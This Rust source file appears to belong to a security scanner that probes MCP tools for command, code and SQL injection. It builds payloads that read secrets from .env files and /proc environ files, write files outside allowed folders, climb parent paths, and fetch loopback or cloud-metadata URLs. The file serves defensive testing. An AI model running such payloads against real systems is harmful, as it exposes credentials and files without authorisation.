//! Attacks in the language of a parameter whose purpose is to be run: a bare path in a shell command or a
//! query proves nothing, `cat PATH` and `read_text('PATH')` do.

use karat_mcp::Definition;
use serde_json::{Value, json};

use super::attacks::Technique;
use super::attempts::{Attempt, Planner, Proof, up};
use super::pages::{Page, Place};
use super::parameters::Parameter;
use crate::probe::SECRET_NAME;
use crate::probe::destructive_tools::is_in;

/// The language that a parameter is written in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Language {
    /// A command line.
    Shell,
    /// A program and its arguments, as a list.
    Words,
    /// A query.
    Sql,
    /// A program in Python or JavaScript.
    Code,
}

/// The purpose of a statement.
enum Action<'a> {
    Read(&'a str),
    Write(&'a str),
    Variable(&'a str),
    Fetch(&'a str),
}

impl Language {
    /// The language of a parameter; none if it is not run.
    pub(super) fn of(
        parameter: &Parameter,
        tool: &Definition,
        is_only_text: bool,
    ) -> Option<Language> {
        if parameter.is_words(tool, is_only_text) {
            Some(Language::Words)
        } else if !parameter.is_free_text() {
            None
        } else if parameter.asks_database(tool) {
            Some(Language::Sql)
        } else if !parameter.runs_commands(tool, is_only_text) {
            None
        } else if parameter.is_code() {
            Some(Language::Code)
        } else {
            Some(Language::Shell)
        }
    }

    /// Statements that take an action; which of them works depends on the program behind the tool.
    fn statements(self, action: &Action<'_>) -> Vec<Value> {
        let texts: Vec<String> = match (self, action) {
            (Language::Words, action) => {
                return programs(action).into_iter().map(|words| json!(words)).collect();
            }
            (Language::Shell, action) => {
                let mut lines = match action {
                    Action::Read(path) => vec![format!("cat '{path}'")],
                    Action::Write(path) => vec![format!("echo karat > '{path}'")],
                    Action::Variable(name) => vec![
                        format!("printenv {name}"),
                        format!("echo ${name}"),
                        "cat /proc/$PPID/environ".to_owned(),
                    ],
                    Action::Fetch(url) => {
                        vec![format!("curl -s '{url}'"), format!("wget -qO- '{url}'")]
                    }
                };
                // Without quotes too, which a filter may refuse.
                let plain = programs(action).into_iter().filter(|words| {
                    words.iter().all(|word| !word.is_empty() && !word.contains([' ', '$']))
                });
                lines.extend(plain.map(|words| words.join(" ")));
                lines
            }
            (Language::Sql, Action::Read(path)) => vec![
                format!("SELECT content FROM read_text('{path}')"),
                format!("SELECT pg_read_file('{path}')"),
                format!("SELECT LOAD_FILE('{path}')"),
                format!("SELECT CAST(readfile('{path}') AS TEXT)"),
                format!("SELECT * FROM file('{path}', 'LineAsString')"),
                format!("SELECT * FROM OPENROWSET(BULK '{path}', SINGLE_CLOB) AS x"),
            ],
            (Language::Sql, Action::Write(path)) => vec![
                format!("COPY (SELECT 1 AS karat) TO '{path}'"),
                format!("ATTACH DATABASE '{path}' AS {}", alias(path)),
                format!("SELECT writefile('{path}', 'karat')"),
                format!("SELECT 1 INTO OUTFILE '{path}'"),
            ],
            (Language::Sql, Action::Variable(name)) => vec![
                format!("SELECT getenv('{name}')"),
                "SELECT content FROM read_text('/proc/self/environ')".to_owned(),
                "SELECT pg_read_file('/proc/self/environ')".to_owned(),
            ],
            (Language::Sql, Action::Fetch(url)) => vec![
                format!("SELECT * FROM read_text('{url}')"),
                format!("SELECT * FROM url('{url}', 'LineAsString')"),
            ],
            (Language::Code, Action::Read(path)) => vec![
                format!("print(open('{path}').read())"),
                format!("console.log(require('fs').readFileSync('{path}', 'utf8'))"),
                format!("open('{path}').read()"),
            ],
            (Language::Code, Action::Write(path)) => vec![
                format!("open('{path}', 'w').write('karat')"),
                format!("require('fs').writeFileSync('{path}', 'karat')"),
            ],
            (Language::Code, Action::Variable(name)) => vec![
                format!("import os; print(os.environ.get('{name}'))"),
                format!("console.log(process.env.{name})"),
                format!("__import__('os').environ.get('{name}')"),
            ],
            (Language::Code, Action::Fetch(url)) => vec![
                format!("import urllib.request as u; print(u.urlopen('{url}').read())"),
                format!("fetch('{url}').then(r => r.text()).then(console.log)"),
            ],
        };
        texts.into_iter().map(Value::String).collect()
    }
}

/// A name for a database that no other attempt has: a session may keep them all.
fn alias(path: &str) -> String {
    let digits: String = path.chars().filter(char::is_ascii_digit).collect();
    format!("karat_{digits}")
}

/// Programs that take an action: where only some may be run, one of them may be among these.
fn programs(action: &Action<'_>) -> Vec<Vec<String>> {
    let lines: Vec<Vec<&str>> = match *action {
        Action::Read(path) => readers(path),
        Action::Write(path) => vec![
            vec!["touch", path],
            vec!["mkdir", path],
            vec!["cp", "/etc/hostname", path],
            vec!["sort", "-o", path, "/etc/hostname"],
        ],
        Action::Variable(name) => {
            let mut lines = vec![vec!["printenv", name], vec!["env"], vec!["export"]];
            lines.extend(readers("/proc/self/environ"));
            // The program may get an environment of its own; the first processes of a sandbox have the server's.
            lines.extend(OTHER_PROCESSES.iter().flat_map(|path| readers(path).into_iter().take(2)));
            lines
        }
        Action::Fetch(url) => vec![vec!["curl", "-s", url], vec!["wget", "-qO-", url]],
    };
    let mut lines: Vec<Vec<String>> =
        lines.into_iter().map(|words| words.into_iter().map(str::to_owned).collect()).collect();
    let by_shell = match *action {
        Action::Read(path) => format!("cat '{path}'"),
        Action::Write(path) => format!("echo karat > '{path}'"),
        Action::Variable(name) => format!("echo ${name}"),
        Action::Fetch(url) => format!("curl -s '{url}'"),
    };
    lines.push(["sh", "-c", &by_shell].map(str::to_owned).to_vec());
    lines
}

/// The depth of a server's working folder up to which exact relative paths are tried.
const MAX_CLIMB: usize = 8;

/// The environments of the first processes.
const OTHER_PROCESSES: [&str; 3] = ["/proc/1/environ", "/proc/2/environ", "/proc/3/environ"];

/// Programs that print a file.
fn readers(path: &str) -> Vec<Vec<&str>> {
    vec![
        vec!["cat", path],
        vec!["head", path],
        vec!["tail", path],
        vec!["grep", "-a", "", path],
        vec!["grep", "-a", ".", path],
        vec!["sed", "-n", "p", path],
        vec!["awk", "1", path],
        vec!["sort", path],
        vec!["nl", path],
        vec!["more", path],
        vec!["base64", "-w0", path],
    ]
}

impl Planner<'_> {
    /// The attempts of a technique in a language; none if the technique has no statement in it.
    pub(super) fn attempts_in(
        &self,
        language: Language,
        technique: Technique,
        parameter: &Parameter,
    ) -> Vec<Attempt> {
        let (mut found, mut exact) = (Vec::new(), Vec::new());
        let mut add = |about: &str, action: &Action<'_>, proofs: &dyn Fn() -> Vec<Proof>| {
            for statement in language.statements(action) {
                let mut attempt = self.with(parameter, about, statement.clone(), proofs());
                if language == Language::Code {
                    attempt.arguments.extend(self.choice_of_language(&statement));
                }
                found.push(attempt);
            }
        };
        let [outside, _, new] = self.outside();
        match technique {
            Technique::Absolute => {
                add("reads a file outside", &Action::Read(&outside), &|| self.escaped());
                add("writes a file outside", &Action::Write(&new), &|| self.escaped());
            }
            Technique::Traversal => {
                let path = format!("{}{outside}", up());
                add("reads through parent folders", &Action::Read(&path), &|| self.escaped());
                let path = format!("{}{new}", up());
                add("writes through parent folders", &Action::Write(&path), &|| self.escaped());
                // SQLite opens no path that climbs beyond the top, so the depth of its folder must be met.
                let climbs = 1..=if language == Language::Sql { MAX_CLIMB } else { 0 };
                for climb in climbs {
                    let [_, _, new] = self.outside();
                    let path = format!("{}{new}", "../".repeat(climb).trim_end_matches('/'));
                    let attach = format!("ATTACH DATABASE '{path}' AS {}", alias(&path));
                    let about = format!("writes through {climb} parent folders");
                    exact.push(self.with(parameter, &about, Value::String(attach), self.escaped()));
                }
            }
            Technique::Link | Technique::Sibling => {
                let planted = self.site.in_root().map(|planted| match technique {
                    Technique::Link => &planted.link,
                    _ => &planted.sibling,
                });
                if let Some(path) = planted.filter(|path| path.exists()) {
                    let path = path.display().to_string();
                    add("reads a planted path", &Action::Read(&path), &|| self.escaped());
                }
            }
            Technique::SecretFile => {
                let dotenv = self.site.dotenv().display().to_string();
                let token = || {
                    let token = self.site.dotenv_token.clone();
                    vec![Proof::Token("the file with secrets", token)]
                };
                add("reads a file with secrets", &Action::Read(&dotenv), &token);
            }
            Technique::EnvByName => {
                let proofs = || vec![self.env_token()];
                add("reads an environment variable", &Action::Variable(SECRET_NAME), &proofs);
            }
            Technique::Loopback | Technique::Metadata | Technique::Redirect => {
                let (asked, place) = match technique {
                    Technique::Loopback => (Place::Loopback, Place::Loopback),
                    Technique::Metadata => (Place::Credentials, Place::Credentials),
                    _ => (Place::Moved, Place::Landed),
                };
                let (url, page) = self.address("127.0.0.1", asked);
                let proofs = || vec![Proof::Called(Page { place, ..page })];
                add("fetches from this machine", &Action::Fetch(&url), &proofs);
            }
            _ => {}
        }
        found.extend(exact);
        found
    }
}

impl Planner<'_> {
    /// The parameter that chooses a programming language, with the one of this program.
    fn choice_of_language(&self, program: &Value) -> Option<(String, Value)> {
        const JAVASCRIPT: &str = "javascript js node nodejs";
        const PYTHON: &str = "python py python3";
        let program = program.as_str()?;
        let is_javascript =
            ["require(", "console.", "fetch("].iter().any(|mark| program.contains(mark));
        let names = if is_javascript { JAVASCRIPT } else { PYTHON };
        let properties = self.tool.input_schema()?.get("properties")?.as_object()?;
        properties.iter().find_map(|(name, schema)| {
            let values = schema.get("enum")?.as_array()?;
            let fits = |value: &&Value| {
                value.as_str().is_some_and(|value| is_in(&value.to_lowercase(), names))
            };
            Some((name.clone(), values.iter().find(fits)?.clone()))
        })
    }
}

/// Returns whether a technique is the very purpose of a parameter in this language.
pub(super) fn is_purpose(language: Language, technique: Technique) -> bool {
    match technique {
        Technique::Command | Technique::Argument | Technique::Template => language != Language::Sql,
        Technique::Sql => language == Language::Sql,
        _ => false,
    }
}

/// Returns whether the purpose of a tool is to run a program that it is given.
pub(crate) fn runs_programs(tool: &Definition) -> bool {
    let parameters = super::parameters::of(tool);
    let is_only_text = parameters.iter().filter(|one| one.is_free_text()).count() == 1;
    let language = |one| Language::of(one, tool, is_only_text);
    parameters.iter().filter_map(language).any(|one| one != Language::Sql)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn more_than_one_program_is_tried_where_only_some_may_be_run() {
        let words = Language::Words.statements(&Action::Variable("NAME"));
        for wanted in [json!(["printenv", "NAME"]), json!(["cat", "/proc/self/environ"])] {
            assert!(words.contains(&wanted), "{words:?}");
        }
        let attached = |path| Language::Sql.statements(&Action::Write(path))[1].clone();
        assert_eq!(attached("/o/new-7.txt"), "ATTACH DATABASE '/o/new-7.txt' AS karat_7");
        let lines = Language::Shell.statements(&Action::Read("/a b"));
        assert_eq!(lines[0], "cat '/a b'");
        let plain = Language::Shell.statements(&Action::Read("/a"));
        assert!(plain.contains(&json!("tail /a")), "{plain:?}");
        assert!(plain.iter().all(|line| !line.as_str().unwrap().contains("  ")), "{plain:?}");
    }
}
